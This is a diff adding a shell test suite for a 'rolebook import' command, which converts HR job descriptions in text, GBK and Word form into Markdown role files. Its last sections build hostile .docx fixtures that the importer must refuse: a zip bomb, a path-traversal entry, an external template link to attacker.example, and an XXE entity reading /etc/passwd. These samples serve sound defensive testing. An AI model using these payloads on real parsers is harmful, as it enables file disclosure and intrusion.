@@ -1,0 +1,178 @@
+#!/bin/sh
+# tests/check-import.sh — `rolebook import` (issue 13), every case a golden:
+# the exact Markdown written (tests/import/expect/NAME.md) and the exact
+# diagnostics (tests/import/expect/NAME.diag).
+#   - plain text as HR types it (hr-admin.txt), and the same file saved with
+#     a BOM (Notepad), as GBK with CRLF (WPS, Windows): the same Markdown;
+#   - two job descriptions cut from ../shared/seeds/003 as they are
+#     (seed-003-*.txt): every duty and qualification, in order;
+#   - Word files made as a user has them: LibreOffice (libreoffice-writer-
+#     nogui) saves tests/import/*.html as .docx — headed (Word heading
+#     styles, 一、 numbering, a bold heading), list-numbered (w:numPr) and
+#     the one-table form (label cells, merged cells, several paragraphs in
+#     a cell);
+#   - the imported roles validate: imported into a copy of the sample
+#     content, `rolebook check -Werror` passes on those that name a
+#     department, and their canonical export holds every duty;
+#   - hostile .docx files (made here with python3's zipfile): a zip bomb, a
+#     part over the data-size limit, an entry climbing out of the archive,
+#     an external relationship, a DOCTYPE, a file that is no zip: each
+#     refused with its diagnostic while the other files still import,
+#     exit 1; a document with no duties; an existing file without --force.
+# Prints "import: N passed, N failed".
+. "$(dirname "$0")/lib.sh"
+rb=$top/${rb#./}
+[ -x "$rb" ] || rb=$ROLEBOOK
+fx=$top/tests/import
+ex=$fx/expect
+py=/usr/bin/python3
+[ -x $py ] || py=python3
+
+# golden NAME OUTFILE DIAGFILE: compares with expect/NAME.{md,diag}.
+golden() {
+	if cmp -s "$2" "$ex/$1.md"; then ok
+	else ko "$1: Markdown differs: $(diff "$ex/$1.md" "$2" | head -8)"; fi
+	if cmp -s "$3" "$ex/$1.diag"; then ok
+	else ko "$1: diagnostics differ: $(diff "$ex/$1.diag" "$3" | head -8)"; fi
+}
+
+# imp NAME FILE ROLE: imports FILE (copied as NAME.ext into a fresh folder,
+# so diagnostics name it alike) and compares roles/ROLE.md and stderr.
+imp() {
+	_d=$(mktemp -d "$tmp/i.XXXXXX")
+	cp "$2" "$_d/$1.${2##*.}"
+	(cd "$_d" && "$rb" import --into c "$1.${2##*.}") >"$_d/out" \
+	    2>"$_d/diag"
+	_rc=$?
+	if [ $_rc -eq 0 ] && grep -q " -> roles/$3.md: " "$_d/out"; then ok
+	else ko "$1: import exit $_rc: $(cat "$_d/out" "$_d/diag" | head -5)"; fi
+	golden "$1" "$_d/c/roles/$3.md" "$_d/diag"
+	last=$_d/c/roles/$3.md
+}
+
+# ---- plain text, BOM, GBK + CRLF
+imp hr-admin "$fx/hr-admin.txt" 行政专员
+printf '\357\273\277' >"$tmp/bom.txt"
+cat "$fx/hr-admin.txt" >>"$tmp/bom.txt"
+imp hr-admin "$tmp/bom.txt" 行政专员
+sed 's/$/\r/' "$fx/hr-admin.txt" | iconv -f UTF-8 -t GBK >"$tmp/gbk.txt"
+if ! iconv -f UTF-8 -t UTF-8 "$tmp/gbk.txt" >/dev/null 2>&1; then ok
+else ko "the GBK fixture is valid UTF-8: not a test of detection"; fi
+imp hr-admin "$tmp/gbk.txt" 行政专员
+
+# ---- the seeds, cut one document per role
+imp seed-003-senior "$fx/seed-003-senior.txt" 高级业务员
+imp seed-003-salesperson "$fx/seed-003-salesperson.txt" 业务员
+# Every numbered duty line of the cut is in the Markdown, in order.
+for s in senior salesperson; do
+	grep -o '[0-9][.、] [^:：]*' "$fx/seed-003-$s.txt" |
+	    sed 's/^[0-9][.、] *//' >"$tmp/want-$s"
+	grep -o '^\([0-9]*\.\|-\) [^:：]*' "$ex/seed-003-$s.md" |
+	    sed 's/^\([0-9]*\.\|-\) //' >"$tmp/got-$s"
+	n=$(wc -l <"$tmp/want-$s")
+	if [ "$n" -ge 8 ] && diff "$tmp/want-$s" "$tmp/got-$s" >/dev/null; then ok
+	else ko "seed-003-$s: items not all in order ($n): $(diff "$tmp/want-$s" "$tmp/got-$s" | head -4)"; fi
+done
+
+# ---- Word files saved by LibreOffice
+if command -v soffice >/dev/null 2>&1; then
+	mkdir -p "$tmp/lo"
+	soffice -env:UserInstallation=file://$tmp/lo-profile --headless \
+	    --convert-to 'docx:MS Word 2007 XML' --outdir "$tmp/lo" \
+	    "$fx/headed.html" "$fx/listed.html" "$fx/table.html" \
+	    >"$tmp/lo.log" 2>&1
+	for f in headed:设计师 listed:客服代表 table:行政专员; do
+		n=${f%%:*}
+		if [ -s "$tmp/lo/$n.docx" ]; then
+			imp "docx-$n" "$tmp/lo/$n.docx" "${f#*:}"
+		else ko "LibreOffice made no $n.docx: $(tail -3 "$tmp/lo.log")"; fi
+	done
+else
+	ko "soffice missing (scripts/packages-test.txt: libreoffice-writer-nogui)"
+fi
+
+# ---- imported roles validate against the sample organisation
+cp -R "$top/content" "$tmp/v"
+rm -f "$tmp/v/roles/"*
+cp "$top/content/roles/"*.md "$top/content/roles/"*.xml "$tmp/v/roles/"
+for f in "$ex/hr-admin.md" "$ex/docx-table.md"; do
+	cp "$f" "$tmp/v/roles/imported-$(basename "$f")"
+done
+if "$rb" -Werror check "$tmp/v" >"$tmp/v.out" 2>&1; then ok
+else ko "imported roles do not validate: $(head -5 "$tmp/v.out")"; fi
+"$rb" export "$tmp/v/roles/imported-docx-table.md" >"$tmp/v.xml" 2>&1
+if [ "$(grep -c '<duty>' "$tmp/v.xml")" = 3 ] &&
+    grep -q '<duty>办公用品和固定资产管理。</duty>' "$tmp/v.xml"; then ok
+else ko "export of an imported role lost duties: $(head -12 "$tmp/v.xml")"; fi
+
+# ---- hostile and broken inputs: each refused, the others imported
+h=$tmp/h
+mkdir -p "$h"
+$py - "$h" <<'PY'
+import sys, zipfile
+d = sys.argv[1]
+ct = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
+      'package/2006/content-types"/>')
+doc = ('<?xml version="1.0"?><w:document xmlns:w="http://schemas.'
+       'openxmlformats.org/wordprocessingml/2006/main"><w:body>'
+       '<w:p><w:r><w:t>工作职责</w:t></w:r></w:p>'
+       '<w:p><w:r><w:t>1、受理咨询。</w:t></w:r></w:p>'
+       '</w:body></w:document>')
+def mk(name, parts):
+    with zipfile.ZipFile(f"{d}/{name}.docx", "w", zipfile.ZIP_DEFLATED) as z:
+        for n, data in parts:
+            z.writestr(zipfile.ZipInfo(n, (2026, 1, 1, 0, 0, 0)), data,
+                       zipfile.ZIP_DEFLATED)
+mk("good", [("[Content_Types].xml", ct), ("word/document.xml", doc)])
+mk("bomb", [("[Content_Types].xml", ct), ("word/document.xml",
+    doc[:-len("</w:body></w:document>")] + " " * (12 << 20) +
+    "</w:body></w:document>")])
+mk("big", [("[Content_Types].xml", ct), ("word/document.xml",
+    doc.replace("1、受理咨询。", "".join("%d、受理咨询第%d项。" % (i, i)
+    for i in range(1, 90000))))])
+mk("climb", [("[Content_Types].xml", ct), ("word/document.xml", doc),
+    ("../../evil.sh", "echo pwned")])
+mk("external", [("[Content_Types].xml", ct), ("word/document.xml", doc),
+    ("word/_rels/document.xml.rels", '<?xml version="1.0"?><Relationships '
+     'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+     '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+     'officeDocument/2006/relationships/attachedTemplate" Target='
+     '"http://attacker.example/t.dotm" TargetMode="External"/>'
+     '</Relationships>')])
+mk("doctype", [("[Content_Types].xml", ct), ("word/document.xml",
+    doc.replace('<?xml version="1.0"?>', '<?xml version="1.0"?><!DOCTYPE '
+    'w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))])
+mk("noduties", [("[Content_Types].xml", ct), ("word/document.xml",
+    doc.replace("工作职责", "岗位名称：无职责"))])
+open(f"{d}/notzip.docx", "w").write("这不是 zip 文件\n")
+PY
+(cd "$h" && "$rb" --limit data-size=1M import --into c good.docx bomb.docx \
+    big.docx climb.docx external.docx doctype.docx notzip.docx \
+    noduties.docx) >"$h/out" 2>"$h/diag"
+rc=$?
+if [ $rc -eq 1 ]; then ok; else ko "hostile files: exit $rc, want 1"; fi
+if [ "$(cat "$h/out")" = "good.docx -> roles/good.md: 1 duties, 0 qualifications, 0 other sections" ] &&
+    [ "$(ls "$h/c/roles")" = good.md ]; then ok
+else ko "hostile files: the good one not alone imported: $(cat "$h/out"; ls "$h/c/roles")"; fi
+if cmp -s "$h/diag" "$ex/hostile.diag"; then ok
+else ko "hostile diagnostics differ: $(diff "$ex/hostile.diag" "$h/diag" | head -12)"; fi
+[ -e "$h/evil.sh" ] || [ -e "$tmp/evil.sh" ] && ko "an entry was extracted"
+
+# ---- an existing file is never replaced without --force
+(cd "$h" && "$rb" import --into c good.docx) >/dev/null 2>"$h/again"
+rc=$?
+if [ $rc -eq 1 ] && grep -q 'c/roles/good.md already exists: import --force replaces it' "$h/again"; then ok
+else ko "existing file: exit $rc: $(cat "$h/again")"; fi
+echo "stale" >"$h/c/roles/good.md"
+if (cd "$h" && "$rb" import --into c --force good.docx) >/dev/null 2>&1 &&
+    grep -q '受理咨询' "$h/c/roles/good.md"; then ok
+else ko "--force did not replace the file"; fi
+# Two documents of one title in one run: the second gets a number.
+cp "$fx/hr-admin.txt" "$h/a.txt"
+cp "$fx/hr-admin.txt" "$h/b.txt"
+(cd "$h" && "$rb" import --into d a.txt b.txt) >"$h/two" 2>&1
+if grep -q 'b.txt -> roles/行政专员-2.md' "$h/two"; then ok
+else ko "title clash: $(cat "$h/two")"; fi
+
+echo "import: $pass passed, $fail failed"
+[ "$fail" -eq 0 ]
